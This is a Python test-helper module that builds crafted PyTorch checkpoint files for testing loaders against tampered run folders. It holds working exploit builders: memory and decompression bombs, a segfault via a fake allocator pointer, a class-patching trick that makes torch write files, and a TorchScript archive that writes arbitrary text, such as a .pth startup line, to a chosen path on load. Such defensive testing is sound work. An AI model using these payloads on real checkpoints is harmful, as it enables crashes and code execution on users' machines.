"""Crafted checkpoint files: what a tampered run folder could hold.

Each builder writes one file. They are harmless by construction: whatever a payload writes, it
writes to a path the test gives it (inside the test's temporary folder), and the memory bombs
are sized by the caller. The tests show each payload does its harm when loaded the unsafe way
(in a separate process where it could crash or change a class), and that the recipes refuse it.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from pathlib import Path

import torch


def _global(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _str(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _int(value: int) -> bytes:
    if -(2**31) <= value < 2**31:
        return b"J" + struct.pack("<i", value)
    data = pickle.encode_long(value)  # type: ignore[attr-defined]
    return b"\x8a" + bytes([len(data)]) + data


PROTO2, EMPTY_DICT, MARK, TUPLE, TUPLE1, TUPLE2, REDUCE, SETITEM, STOP = b"\x80\x02", b"}", b"(", b"t", b"\x85", b"\x86", b"R", b"s", b"."
NEWFALSE, EMPTY_TUPLE, BINPERSID, BUILD, POP, NONE, NEWTRUE = b"\x89", b")", b"Q", b"b", b"0", b"N", b"\x88"


def zip_archive(path: Path, pickle_bytes: bytes, records: dict[str, bytes], *, compress: set[str] = frozenset()) -> Path:  # type: ignore[assignment]
    """A file laid out like ``torch.save``'s (``archive/data.pkl``, ``archive/data/<key>`` and the
    markers), with ``compress`` naming records to deflate."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", pickle_bytes)
        z.writestr("archive/byteorder", b"little")
        for key, data in records.items():
            method = zipfile.ZIP_DEFLATED if key in compress else zipfile.ZIP_STORED
            z.writestr(zipfile.ZipInfo(f"archive/data/{key}"), data, compress_type=method)
        z.writestr("archive/version", b"3\n")
    return path


def _tensor_view(key: str, storage_type: str, length: int, size: tuple[int, ...], stride: tuple[int, ...]) -> bytes:
    """Pickle opcodes rebuilding a tensor view of storage ``key`` (torch.save's own form)."""
    pid = MARK + _str("storage") + _global("torch", storage_type) + _str(key) + _str("cpu") + _int(length) + TUPLE + BINPERSID
    ints = lambda xs: MARK + b"".join(_int(x) for x in xs) + TUPLE  # noqa: E731
    hooks = _global("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
    return _global("torch._utils", "_rebuild_tensor_v2") + MARK + pid + _int(0) + ints(size) + ints(stride) + NEWFALSE + hooks + TUPLE + REDUCE


def tensor_iteration_bomb(path: Path, elements: int) -> Path:
    """``{"x": set(view)}`` where ``view`` repeats one float ``elements`` times (stride 0): a few
    hundred bytes that build ``elements`` tensors (about 600 bytes each) when unpickled.
    ``builtins.set`` is on torch's own ``weights_only`` allowlist."""
    view = _tensor_view("0", "FloatStorage", 1, (elements,), (0,))
    data = PROTO2 + EMPTY_DICT + _str("x") + _global("builtins", "set") + view + TUPLE1 + REDUCE + SETITEM + STOP
    return zip_archive(path, data, {"0": struct.pack("<f", 1.0)})


def decompression_bomb(path: Path, nbytes: int) -> Path:
    """``{"weight": tensor}`` whose storage record is deflated: ``nbytes`` of zeros in about a
    thousandth of the space. ``torch.load`` inflates it, ``weights_only`` or not."""
    floats = nbytes // 4
    data = PROTO2 + EMPTY_DICT + _str("weight") + _tensor_view("0", "FloatStorage", floats, (floats,), (1,)) + SETITEM + STOP
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", data)
        z.writestr("archive/byteorder", b"little")
        chunk = bytes(1 << 22)
        info = zipfile.ZipInfo("archive/data/0")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as out:
            remaining = floats * 4
            while remaining:
                out.write(chunk[: min(remaining, len(chunk))])
                remaining -= min(remaining, len(chunk))
        z.writestr("archive/version", b"3\n")
    return path


def allocator_newobj_ex(path: Path) -> Path:
    """``UntypedStorage.__new__(UntypedStorage, allocator=4096)`` through ``NEWOBJ_EX``: torch
    calls the integer as an allocator pointer (a segmentation fault)."""
    data = (b"\x80\x04" + EMPTY_DICT + _str("x") + _global("torch.storage", "UntypedStorage") + EMPTY_TUPLE
            + EMPTY_DICT + _str("allocator") + _int(4096) + SETITEM + b"\x92" + SETITEM + STOP)
    return zip_archive(path, data, {})


def build_on_class_writer(path: Path, target_stem: Path) -> Path:
    """A legacy-format (pre-zip) file that sets ``dump_patches`` and ``__name__`` on the class
    ``AudioBatch`` (``BUILD`` on a class) and then names it as a saved module whose source
    differs: torch then appends a diff to ``<target_stem>.patch``."""
    module = _global("aape_plugin.data.batch", "AudioBatch")
    slots = EMPTY_DICT + _str("dump_patches") + NEWTRUE + SETITEM + _str("__name__") + _str(str(target_stem)) + SETITEM
    build = module + NONE + slots + TUPLE2 + BUILD + POP
    persistent = MARK + _str("module") + module + _str("batch.py") + _str("class AudioBatch: pass\n") + TUPLE + BINPERSID + POP
    main = PROTO2 + build + persistent + EMPTY_DICT + STOP
    buffer = io.BytesIO()
    for header in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True,
                                                 "type_sizes": {"short": 2, "int": 4, "long": 4}}):
        pickle.dump(header, buffer, protocol=2)
    buffer.write(main)
    pickle.dump([], buffer, protocol=2)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(buffer.getvalue())
    return path


class _FileWriter(torch.nn.Module):
    """A TorchScript module whose ``__setstate__`` writes its payload to a file on load."""

    def __init__(self, target: str, payload: torch.Tensor) -> None:
        super().__init__()
        self.target = target
        self.payload = payload

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> tuple[str, torch.Tensor, bool]:
        return (self.target, self.payload, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[str, torch.Tensor, bool]) -> None:
        self.target = state[0]
        self.training = state[2]
        out = torch.from_file(state[0], True, state[1].numel(), dtype=torch.uint8)
        out.copy_(state[1])
        self.payload = out  # kept, so that TorchScript does not drop the write as dead code


def torchscript_writer(path: Path, target: Path, text: str = "import os  # a .pth line runs at interpreter start\n") -> Path:
    """A TorchScript archive that writes ``text`` to ``target`` when loaded: ``torch.load`` (not
    ``weights_only``) hands TorchScript archives to ``torch.jit.load``, which runs
    ``__setstate__``."""
    payload = torch.tensor(list(text.encode()), dtype=torch.uint8)
    path.parent.mkdir(parents=True, exist_ok=True)
    torch.jit.save(torch.jit.script(_FileWriter(str(target), payload)), str(path))
    return path
